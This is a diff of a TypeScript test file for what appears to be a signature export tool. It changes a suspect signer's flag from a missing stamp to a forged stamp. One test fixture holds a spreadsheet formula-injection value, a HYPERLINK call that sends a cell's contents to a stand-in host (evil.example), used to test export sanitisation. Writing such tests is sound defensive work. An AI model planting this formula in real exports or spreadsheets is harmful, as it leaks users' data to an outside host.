@@ -133,7 +133,7 @@ const PEOPLE: Record<string, Signer> = {
   formula: { name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', email: `-dash${uniqueSuffix()}@example.org`, country: 'DE', postcode: '+49' },
   pending: { name: '@pending person', email: `pending-${uniqueSuffix()}@example.org`, country: 'FR' },
   withdrawn: { name: 'Changed Mind', email: `withdrawn-${uniqueSuffix()}@example.org`, country: 'GB', postcode: 'EC1A 1BB' },
-  suspect: { name: 'Fast Script', email: `suspect-${uniqueSuffix()}@example.org`, country: 'US', noStamp: true },
+  suspect: { name: 'Fast Script', email: `suspect-${uniqueSuffix()}@example.org`, country: 'US', forgedStamp: true },
 };
 
 for (const dialect of ['sqlite', 'postgres'] as const) {
@@ -277,7 +277,7 @@ for (const dialect of ['sqlite', 'postgres'] as const) {
       expect(everything.stderr).toContain('Exported 7 of 7 signatures');
       expect(everything.stderr).toContain('(1 withdrawn, with their personal data erased)');
       const suspect = csvRecords(everything.stdout).find((r) => r.suspect === 'yes')!;
-      expect(suspect).toMatchObject({ name: PEOPLE['suspect']!.name, suspect_reason: 'stamp:missing', status: 'confirmed' });
+      expect(suspect).toMatchObject({ name: PEOPLE['suspect']!.name, suspect_reason: 'stamp:forged', status: 'confirmed' });
 
       const bad = await run(exportArgs('--status', 'everything'), env);
       expect(bad.code).not.toBe(0);
